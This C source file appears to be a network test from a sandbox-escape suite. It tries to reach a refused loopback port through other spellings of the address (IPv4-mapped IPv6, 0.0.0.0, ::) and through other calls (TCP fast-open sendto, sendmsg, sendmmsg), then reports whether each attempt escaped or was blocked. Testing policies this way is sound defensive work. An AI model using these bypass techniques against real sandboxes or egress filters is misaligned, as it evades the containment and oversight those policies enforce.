/* net_addr: reach a refused IP address by another spelling of it, or by a call other than
 * connect.
 *
 *   net_addr MODE PORT
 *
 * The policy refuses net-connect to 127.0.0.1 (and ::1) port PORT, where a listener outside
 * the tree waits (TCP, or UDP for the datagram modes).
 *
 * MODE: mapped_connect  TCP connect to [::ffff:127.0.0.1]:PORT (IPv4-mapped IPv6)
 *       mapped_sendto   UDP sendto [::ffff:127.0.0.1]:PORT
 *       mapped_sendmsg  UDP sendmsg, msg_name [::ffff:127.0.0.1]:PORT
 *       any_connect     TCP connect to 0.0.0.0:PORT (Linux connects "any" to the loopback)
 *       any6_connect    TCP connect to [::]:PORT (the listener is on ::1 for this one)
 *       mapped_any      TCP connect to [::ffff:0.0.0.0]:PORT
 *       fastopen        TCP sendto(MSG_FASTOPEN) to 127.0.0.1:PORT: a connect inside sendto
 *       sendmmsg        UDP sendmmsg of three messages (two to 127.0.0.2, permitted), the last
 *                       one to the refused port
 * ESCAPED when the connection was made or the datagrams were all sent.  Class 7 (network).
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

static struct sockaddr_in6 v6(const char *text, int port) {
    struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    inet_pton(AF_INET6, text, &a.sin6_addr);
    return a;
}

static struct sockaddr_in v4(const char *text, int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, text, &a.sin_addr);
    return a;
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("net_addr MODE PORT");
    const char *mode = argv[1];
    int port = atoi(argv[2]);
    char msg[] = "exfiltrated";
    int rc, s;
    if (!strcmp(mode, "mapped_connect") || !strcmp(mode, "any6_connect") ||
        !strcmp(mode, "mapped_any")) {
        struct sockaddr_in6 a = v6(!strcmp(mode, "mapped_connect") ? "::ffff:127.0.0.1"
                                   : !strcmp(mode, "mapped_any") ? "::ffff:0.0.0.0" : "::", port);
        s = socket(AF_INET6, SOCK_STREAM, 0);
        rc = connect(s, (struct sockaddr *)&a, sizeof a);
    } else if (!strcmp(mode, "any_connect")) {
        struct sockaddr_in a = v4("0.0.0.0", port);
        s = socket(AF_INET, SOCK_STREAM, 0);
        rc = connect(s, (struct sockaddr *)&a, sizeof a);
    } else if (!strcmp(mode, "mapped_sendto") || !strcmp(mode, "mapped_sendmsg")) {
        struct sockaddr_in6 a = v6("::ffff:127.0.0.1", port);
        s = socket(AF_INET6, SOCK_DGRAM, 0);
        if (!strcmp(mode, "mapped_sendto")) {
            rc = sendto(s, msg, sizeof msg, 0, (struct sockaddr *)&a, sizeof a);
        } else {
            struct iovec iov = {msg, sizeof msg};
            struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov,
                               .msg_iovlen = 1};
            rc = sendmsg(s, &m, 0);
        }
    } else if (!strcmp(mode, "fastopen")) {
        struct sockaddr_in a = v4("127.0.0.1", port);
        s = socket(AF_INET, SOCK_STREAM, 0);
        rc = sendto(s, msg, sizeof msg, MSG_FASTOPEN, (struct sockaddr *)&a, sizeof a);
    } else if (!strcmp(mode, "sendmmsg")) {
        struct sockaddr_in bad = v4("127.0.0.1", port), other = v4("127.0.0.2", port);
        struct iovec iov = {msg, sizeof msg};
        struct mmsghdr mm[3] = {
            {.msg_hdr = {.msg_name = &other, .msg_namelen = sizeof other, .msg_iov = &iov,
                         .msg_iovlen = 1}},
            {.msg_hdr = {.msg_name = &other, .msg_namelen = sizeof other, .msg_iov = &iov,
                         .msg_iovlen = 1}},
            {.msg_hdr = {.msg_name = &bad, .msg_namelen = sizeof bad, .msg_iov = &iov,
                         .msg_iovlen = 1}},
        };
        s = socket(AF_INET, SOCK_DGRAM, 0);
        rc = sendmmsg(s, mm, 3, 0);
        if (rc == 3)
            escaped("sendmmsg sent all three datagrams, the last to the refused port");
        if (rc >= 0)
            blocked("sendmmsg sent %d of 3 (the refused one not)", rc);
    } else {
        usage("MODE: mapped_connect mapped_sendto mapped_sendmsg any_connect any6_connect "
              "mapped_any fastopen sendmmsg");
    }
    if (rc < 0)
        blocked("%s: %s", mode, ename(errno));
    escaped("%s reached the refused address (port %d)", mode, port);
}
